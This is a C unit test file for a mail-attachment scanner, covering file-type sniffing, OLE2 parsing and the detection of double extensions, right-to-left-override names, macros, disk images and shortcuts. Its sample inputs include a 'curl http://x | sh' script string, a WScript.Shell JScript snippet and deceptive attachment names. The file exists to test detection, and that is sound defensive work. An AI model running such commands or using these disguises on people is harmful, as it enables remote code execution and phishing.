/* test_mail_files.c - file types, OLE2 directories, archives and the attachment checks.
 *
 * Uses the binary parts in tests/fixtures/mail/parts/ (written by
 * make_fixtures.py: a PE stub with no code, an LHA -lh0- archive with a
 * CP932 member name, an OLE2 file with a VBA storage, an ISO 9660 image...). */
#include "core/utf8.h"
#include "core/util.h"
#include "mail/analyze.h"
#include "mail/filetype.h"
#include "mail/ole2.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

static mail_analyzer *an;

static uint8_t *load_part(const char *name, size_t *n) {
    const char *fx = getenv("FIXTURES");
    char path[4096];
    snprintf(path, sizeof path, "%s/mail/parts/%s", fx ? fx : MITSUKE_SOURCE_DIR "/tests/fixtures", name);
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    fseek(f, 0, SEEK_END);
    long len = ftell(f);
    fseek(f, 0, SEEK_SET);
    uint8_t *p = xmalloc((size_t)len + 1);
    assert_int_equal(fread(p, 1, (size_t)len, f), (size_t)len);
    fclose(f);
    *n = (size_t)len;
    return p;
}

static void sniff(const char *part, file_kind kind, const char *type) {
    size_t n;
    uint8_t *p = load_part(part, &n);
    file_type ft;
    filetype_sniff(p, n, true, &ft);
    assert_int_equal(ft.kind, kind);
    assert_string_equal(ft.type, type);
    free(p);
}

static void content_types(void **state) {
    (void)state;
    sniff("stub.exe", FK_EXECUTABLE, "pe");
    sniff("iryouhi.lzh", FK_ARCHIVE, "lzh");
    sniff("macro.doc", FK_OFFICE, "ole2");
    sniff("macro.xlsm", FK_ARCHIVE, "zip");
    sniff("disk.iso", FK_DISK_IMAGE, "iso");
    sniff("photo.lnk", FK_SHORTCUT, "lnk");
    sniff("minutes.pdf", FK_PDF, "pdf");
    file_type ft;
    static const char elf[] = "\x7f" "ELF\x02\x01\x01";
    filetype_sniff((const uint8_t *)elf, sizeof elf - 1, false, &ft);
    assert_int_equal(ft.kind, FK_EXECUTABLE);
    static const char sh[] = "#!/bin/sh\ncurl http://x | sh\n";
    filetype_sniff((const uint8_t *)sh, sizeof sh - 1, false, &ft);
    assert_int_equal(ft.kind, FK_SCRIPT);
    static const char js[] = "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");";
    filetype_sniff((const uint8_t *)js, sizeof js - 1, false, &ft);
    assert_int_equal(ft.kind, FK_SCRIPT);
    static const char html[] = "\xef\xbb\xbf  <!DOCTYPE html><html><body>x</body></html>";
    filetype_sniff((const uint8_t *)html, sizeof html - 1, false, &ft);
    assert_int_equal(ft.kind, FK_HTML);
    /* "MZ" alone is still a DOS program; truncated PE headers do not read past the end */
    filetype_sniff((const uint8_t *)"MZ", 2, false, &ft);
    assert_string_equal(ft.type, "mz");
    static const uint8_t bad_pe[0x40] = {'M', 'Z', [0x3c] = 0xff, [0x3d] = 0xff, [0x3e] = 0xff, [0x3f] = 0x7f};
    filetype_sniff(bad_pe, sizeof bad_pe, false, &ft);
    assert_string_equal(ft.type, "mz");
}

static void extensions(void **state) {
    (void)state;
    char ext[16];
    assert_string_equal(file_extension("資料.pdf.exe", ext, sizeof ext), "exe");
    assert_string_equal(file_extension("report.PDF", ext, sizeof ext), "pdf");
    assert_string_equal(file_extension("invoice.exe. . ", ext, sizeof ext), "exe"); /* Windows drops trailing dots and spaces */
    assert_string_equal(file_extension("noext", ext, sizeof ext), "");
    assert_string_equal(file_extension("dir.d/file", ext, sizeof ext), "");
    assert_int_equal(extension_kind("scr"), FK_EXECUTABLE);
    assert_int_equal(extension_kind("hta"), FK_SCRIPT);
    assert_int_equal(extension_kind("img"), FK_DISK_IMAGE);
    assert_true(extension_is_document("xlsx"));
    assert_false(extension_is_document("exe"));
}

static void ole2_directory(void **state) {
    (void)state;
    size_t n;
    uint8_t *p = load_part("macro.doc", &n);
    ole2_info info;
    assert_true(ole2_inspect(p, n, &info));
    assert_true(info.has_vba);
    assert_string_equal(info.app, "word");
    assert_false(info.is_msi);
    /* every truncation of it is read without crossing the end */
    for (size_t k = 0; k < n; k += 7) ole2_inspect(p, k, &info);
    /* a directory chain that loops on itself ends (the FAT is sector 0, its
     * entry 1 is the directory's next sector) */
    p[512 + 4] = 1, p[512 + 5] = 0, p[512 + 6] = 0, p[512 + 7] = 0;
    assert_true(ole2_inspect(p, n, &info));
    /* a directory that starts outside the file gives nothing */
    p[0x30] = 0xff, p[0x31] = 0xff, p[0x32] = 0xff, p[0x33] = 0x0f;
    assert_false(ole2_inspect(p, n, &info));
    assert_false(info.has_vba);
    free(p);
}

/* Runs the attachment checks on one part and returns the report. */
static void check_part(const char *part, const char *name, mail_report *r) {
    size_t n;
    uint8_t *p = load_part(part, &n);
    mail_report_init(r);
    scan_budget b = {0};
    attachment_check(an, r, &b, name, "application/octet-stream", p, n, n, -1, 0, false);
    mail_score(r);
    free(p);
}

static bool has(const mail_report *r, reason_id id, const char *detail_part) {
    for (size_t i = 0; i < r->reasons.len; i++) {
        const mail_reason *m = &VEC_AT(&r->reasons, mail_reason, i);
        if (m->def != reason_def_get(id)) continue;
        if (!detail_part || (m->detail && strstr(m->detail, detail_part))) return true;
    }
    return false;
}

static void attachment_checks(void **state) {
    (void)state;
    mail_report r;
    check_part("iryouhi.lzh", "医療費通知のお知らせ.lzh", &r);
    assert_int_equal(r.files.len, 2);
    assert_string_equal(VEC_AT(&r.files, mail_file, 1).name, "医療費通知のお知らせ.exe");
    assert_true(has(&r, R_ATT_EXECUTABLE, "医療費通知のお知らせ.exe"));
    assert_int_equal(r.verdict, MAIL_MALICIOUS);
    assert_string_equal(VEC_AT(&r.files, mail_file, 1).sha256,
                        VEC_AT(&r.files, mail_file, 0).sha256[0] ? VEC_AT(&r.files, mail_file, 1).sha256 : "");
    mail_report_free(&r);

    check_part("stub.exe", "資料.pdf.exe", &r);
    assert_true(has(&r, R_ATT_DOUBLE_EXTENSION, NULL));
    assert_true(has(&r, R_ATT_EXECUTABLE, NULL));
    mail_report_free(&r);

    check_part("stub.exe", "報告書.pdf", &r); /* a program named like a document */
    assert_true(has(&r, R_ATT_DISGUISED, NULL));
    mail_report_free(&r);

    check_part("stub.exe", "report\xe2\x80\xae" "fdp.exe", &r);
    assert_true(has(&r, R_ATT_RLO, "[U+202E]"));
    mail_report_free(&r);

    check_part("stub.exe", "請求書.pdf                                   .exe", &r);
    assert_true(has(&r, R_ATT_PADDED_NAME, NULL));
    mail_report_free(&r);

    check_part("macro.doc", "report.doc", &r);
    assert_true(has(&r, R_ATT_MACRO, NULL));
    mail_report_free(&r);

    check_part("macro.xlsm", "budget.xlsx", &r); /* a macro workbook under an innocent name */
    assert_true(has(&r, R_ATT_MACRO, NULL));
    assert_string_equal(VEC_AT(&r.files, mail_file, 0).type, "ooxml");
    mail_report_free(&r);

    check_part("plain.xlsx", "figures.xlsx", &r); /* false positive check */
    assert_int_equal(r.reasons.len, 0);
    assert_int_equal(r.verdict, MAIL_BENIGN);
    mail_report_free(&r);

    check_part("minutes.pdf", "minutes.pdf", &r);
    assert_int_equal(r.reasons.len, 0);
    mail_report_free(&r);

    check_part("disk.iso", "disk.iso", &r);
    assert_true(has(&r, R_ATT_DISK_IMAGE, NULL));
    assert_true(has(&r, R_ATT_EXECUTABLE, "SETUP.EXE"));
    mail_report_free(&r);

    check_part("photo.lnk", "photo.jpg.lnk", &r);
    assert_true(has(&r, R_ATT_SHORTCUT, NULL));
    assert_true(has(&r, R_ATT_DOUBLE_EXTENSION, NULL));
    assert_true(has(&r, R_ATT_YARA, NULL));
    mail_report_free(&r);

    check_part("encrypted.zip", "invoice.zip", &r);
    assert_true(has(&r, R_ATT_ENCRYPTED, NULL));
    assert_true(VEC_AT(&r.files, mail_file, 0).encrypted);
    assert_string_equal(VEC_AT(&r.files, mail_file, 1).name, "請求書.docx");
    assert_string_equal(VEC_AT(&r.files, mail_file, 1).sha256, ""); /* could not be read */
    assert_int_equal(r.verdict, MAIL_SUSPICIOUS);
    mail_report_free(&r);

    /* a member's reasons name it by its path, cut at a character boundary */
    char outer[400] = "", inner[400] = "";
    for (int i = 0; i < 100; i++) strcat(outer, "資"), strcat(inner, "料");
    strcat(inner, ".pdf.exe");
    mail_report_init(&r);
    scan_budget b = {0};
    attachment_check(an, &r, &b, outer, "application/zip", (const uint8_t *)"", 0, 0, -1, 0, false);
    attachment_check(an, &r, &b, inner, NULL, NULL, 0, 1000, 0, 1, true);
    assert_true(has(&r, R_ATT_DOUBLE_EXTENSION, "資 > 料"));
    for (size_t i = 0; i < r.reasons.len; i++) {
        const char *d = VEC_AT(&r.reasons, mail_reason, i).detail;
        assert_true(!d || (utf8_valid(d, strlen(d)) && strlen(d) <= 512));
    }
    mail_report_free(&r);
}

static int setup(void **state) {
    (void)state;
    mail_options o;
    mail_options_default(&o);
    char err[512];
    an = mail_analyzer_new(&o, err, sizeof err);
    if (!an) fprintf(stderr, "%s\n", err);
    return an ? 0 : -1;
}

static int teardown(void **state) {
    (void)state;
    mail_analyzer_free(an);
    return 0;
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(content_types), cmocka_unit_test(extensions), cmocka_unit_test(ole2_directory),
        cmocka_unit_test(attachment_checks),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
